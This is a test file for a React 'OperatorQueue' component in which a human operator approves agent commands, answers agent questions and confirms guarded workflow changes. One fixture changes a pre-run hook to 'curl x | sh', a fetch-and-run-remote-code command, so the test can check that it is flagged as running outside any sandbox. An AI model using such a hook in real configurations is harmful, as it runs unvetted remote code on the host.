// @vitest-environment happy-dom
import { act, cleanup, fireEvent, screen, waitFor, within } from '@testing-library/react';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import type { Approval } from '../../../shared/api/schemas.js';
import { applyMessages, initialFleetState } from '../../stores/fleet-state.js';
import { approval, workflow } from '../../stores/fleet-fixtures.test-util.js';
import { renderWithServices, type Responder } from '../../stores/render-with-services.test-util.js';
import { OperatorQueue } from './OperatorQueue.js';

const NOW = Date.UTC(2026, 0, 1, 12);
const inMs = (ms: number) => new Date(NOW + ms).toISOString();

beforeEach(() => {
  vi.useFakeTimers({ toFake: ['Date', 'setInterval', 'clearInterval'] });
  vi.setSystemTime(NOW);
});
afterEach(() => {
  cleanup();
  vi.useRealTimers();
});

const answered: Responder = (c) => (c.method === 'POST' ? { status: 200, body: { id: c.path.split('/').pop(), resolved: true } } : undefined);

function show(approvals: Approval[], respond: Responder = answered) {
  return renderWithServices(<OperatorQueue />, { ...initialFleetState, connection: 'open', loaded: true, approvals }, respond);
}

const question = approval('q1', {
  kind: 'input',
  method: 'item/tool/requestUserInput',
  summary: 'Branch: Which branch should I target?',
  options: [],
  params: {},
  questions: [
    { id: 'target_branch', header: 'Branch', question: 'Which branch should I target?', options: [{ label: 'main', description: 'The default branch' }, { label: 'release', description: null }], is_other: true, is_secret: false },
    { id: 'token', header: null, question: 'Deploy token?', options: null, is_other: false, is_secret: true },
  ],
});

describe('OperatorQueue', () => {
  it('shows a command approval: ticket, session, command, cwd, reason, the offered decisions', () => {
    show([approval('a1', { options: ['accept', 'decline'], expires_at: inMs(5 * 60_000) })]);
    const item = screen.getByTestId('request-a1');
    expect(within(item).getByRole('link', { name: 'BAT-1' }).getAttribute('href')).toBe('#/ticket/BAT-1');
    expect(item.textContent).toContain('thr-1-turn-1');
    expect(within(item).getByTestId('detail-command').textContent).toBe('commandnpm install');
    expect(within(item).getByTestId('detail-cwd').textContent).toBe('in/ws/BAT-1');
    expect(within(item).getByTestId('detail-reason').textContent).toBe('reasonneeds network access');
    expect(within(item).getAllByRole('button').map((b) => b.textContent)).toEqual(['Approve', 'Decline']);
  });

  it('counts down live and turns red in the last minute', () => {
    show([approval('a1', { expires_at: inMs(61_000) })]);
    const countdown = screen.getByTestId('countdown');
    expect(countdown.textContent).toBe('1:01 left');
    expect(countdown.className).not.toContain('urgent');
    act(() => vi.advanceTimersByTime(2_000));
    expect(countdown.textContent).toBe('0:59 left');
    expect(countdown.className).toContain('urgent');
    act(() => vi.advanceTimersByTime(60_000));
    expect(countdown.textContent).toBe('expired');
  });

  it('lists the soonest to expire first', () => {
    show([approval('late', { expires_at: inMs(600_000) }), approval('soon', { expires_at: inMs(30_000) })]);
    expect(screen.getAllByRole('article').map((a) => a.getAttribute('data-testid'))).toEqual(['request-soon', 'request-late']);
  });

  it('sends the chosen decision, and the item leaves when the engine pushes the new queue', async () => {
    const { calls, store } = show([approval('a1')]);
    fireEvent.click(screen.getByTestId('decision-acceptForSession'));
    await waitFor(() => expect(calls.at(-1)).toEqual({ method: 'POST', path: '/api/v1/approvals/a1', body: { decision: 'acceptForSession' } }));
    await waitFor(() => expect((screen.getByTestId('decision-accept') as HTMLButtonElement).disabled).toBe(true));
    act(() => store.setState((s) => applyMessages(s, [{ type: 'approvals', approvals: [] }])));
    expect(screen.queryByTestId('request-a1')).toBeNull();
    expect(screen.getByText('Nothing is waiting.')).toBeTruthy();
  });

  it('shows the engine refusing an answer on the item, and lets the operator try again', async () => {
    const refusals = [
      { status: 400, body: { error: { code: 'invalid_answer', message: 'decision cancel was not offered' } } },
      { status: 409, body: { error: { code: 'approval_already_resolved', message: 'approval a1 was already answered' } } },
    ];
    show([approval('a1')], (c) => (c.method === 'POST' ? refusals.shift() : undefined));
    fireEvent.click(screen.getByTestId('decision-cancel'));
    const error = await screen.findByTestId('request-error');
    expect(error.getAttribute('data-code')).toBe('invalid_answer');
    expect(error.textContent).toBe('decision cancel was not offered');
    expect((screen.getByTestId('decision-accept') as HTMLButtonElement).disabled).toBe(false);
    fireEvent.click(screen.getByTestId('decision-accept'));
    await waitFor(() => expect(screen.getByTestId('request-error').getAttribute('data-code')).toBe('approval_already_resolved'));
    expect(screen.getByTestId('request-error').textContent).toContain('Already answered, expired or withdrawn — approval a1 was already answered');
  });

  it('shows an unreachable engine as a failure on the item', async () => {
    renderWithServices(<OperatorQueue />, { ...initialFleetState, connection: 'closed', loaded: true, approvals: [approval('a1')] }, () => {
      throw new TypeError('Failed to fetch');
    });
    expect(screen.getByRole('status').textContent).toContain('Not connected to the engine');
    fireEvent.click(screen.getByTestId('decision-accept'));
    expect((await screen.findByTestId('request-error')).getAttribute('data-code')).toBe('network_error');
  });

  it('answers several questions together: an option, a secret typed into a password field', async () => {
    const { calls } = show([question]);
    const send = screen.getByTestId('send-answers') as HTMLButtonElement;
    expect(send.textContent).toBe('Send answers');
    expect(send.disabled).toBe(true);
    fireEvent.click(screen.getByTestId('option-target_branch-release'));
    expect(screen.getByTestId('option-target_branch-release').getAttribute('aria-pressed')).toBe('true');
    expect(send.disabled).toBe(true);
    const secret = screen.getByTestId('answer-token') as HTMLInputElement;
    expect(secret.type).toBe('password');
    fireEvent.change(secret, { target: { value: 's3cret' } });
    expect(send.disabled).toBe(false);
    fireEvent.click(send);
    await waitFor(() => expect(calls.at(-1)).toEqual({ method: 'POST', path: '/api/v1/approvals/q1', body: { answers: { target_branch: ['release'], token: ['s3cret'] } } }));
  });

  it('takes a free-text "other" answer instead of an option', async () => {
    const { calls } = show([question]);
    fireEvent.click(screen.getByTestId('option-target_branch-main'));
    const other = screen.getByTestId('answer-target_branch') as HTMLInputElement;
    expect(other.type).toBe('text');
    fireEvent.change(other, { target: { value: 'feature/login' } });
    expect(screen.getByTestId('option-target_branch-main').getAttribute('aria-pressed')).toBe('false');
    fireEvent.change(screen.getByTestId('answer-token'), { target: { value: 'x' } });
    fireEvent.click(screen.getByTestId('send-answers'));
    await waitFor(() => expect(calls.at(-1)?.body).toEqual({ answers: { target_branch: ['feature/login'], token: ['x'] } }));
  });

  it('shows the files of a legacy patch, and says when a v2 file change names none', () => {
    const patch = approval('p1', { method: 'applyPatchApproval', params: { fileChanges: { 'patched.txt': {} } } });
    const change = approval('f1', { method: 'item/fileChange/requestApproval', params: { itemId: 'i1', grantRoot: '/ws/out', reason: null } });
    show([patch, change]);
    expect(within(screen.getByTestId('request-p1')).getByTestId('detail-paths').textContent).toBe('filespatched.txt');
    const v2 = screen.getByTestId('request-f1');
    expect(within(v2).getByTestId('detail-paths').textContent).toContain('not named in the request');
    expect(within(v2).getByTestId('detail-grant').textContent).toBe('write access/ws/out');
  });
});

describe('OperatorQueue: a WORKFLOW.md change that waits for confirmation (issue 7 H2)', () => {
  const pending = {
    id: '4',
    detected_at: inMs(0),
    changes: [
      { key: 'agent.max_turns', before: '20', after: '12', guarded: null },
      { key: 'hooks.before_run', before: 'npm ci', after: 'curl x | sh', guarded: 'a shell script run outside any sandbox' },
    ],
  };

  it('lists the guarded keys before and after, and applies the change on request', async () => {
    const applied = { ...workflow(), pending_change: null };
    const { calls, store } = renderWithServices(<OperatorQueue />, { ...initialFleetState, connection: 'open', loaded: true, workflow: { ...workflow(), pending_change: pending } }, (c) =>
      c.method === 'POST' ? { status: 200, body: applied } : undefined,
    );
    const card = screen.getByTestId('workflow-change');
    const guarded = within(card).getByTestId('workflow-change-guarded');
    expect(within(guarded).getByLabelText('hooks.before_run before').textContent).toBe('npm ci');
    expect(within(guarded).getByLabelText('hooks.before_run after').textContent).toBe('curl x | sh');
    expect(guarded.textContent).toContain('outside any sandbox');
    expect(within(card).getByTestId('workflow-change-other').textContent).toContain('agent.max_turns');
    fireEvent.click(within(card).getByTestId('workflow-change-apply'));
    await waitFor(() => expect(screen.queryByTestId('workflow-change')).toBeNull());
    expect(calls).toEqual([{ method: 'POST', path: '/api/v1/workflow/pending/4', body: { decision: 'apply' } }]);
    expect(store.getState().workflow?.pending_change).toBeNull();
  });

  it('says so when the file changed again before the answer', async () => {
    renderWithServices(<OperatorQueue />, { ...initialFleetState, connection: 'open', loaded: true, workflow: { ...workflow(), pending_change: pending } }, (c) =>
      c.method === 'POST' ? { status: 404, body: { error: { code: 'workflow_change_not_found', message: 'the change waiting now is 5' } } } : undefined,
    );
    fireEvent.click(screen.getByTestId('workflow-change-reject'));
    await waitFor(() => expect(screen.getByTestId('workflow-change-error').textContent).toContain('The file changed again'));
  });
});
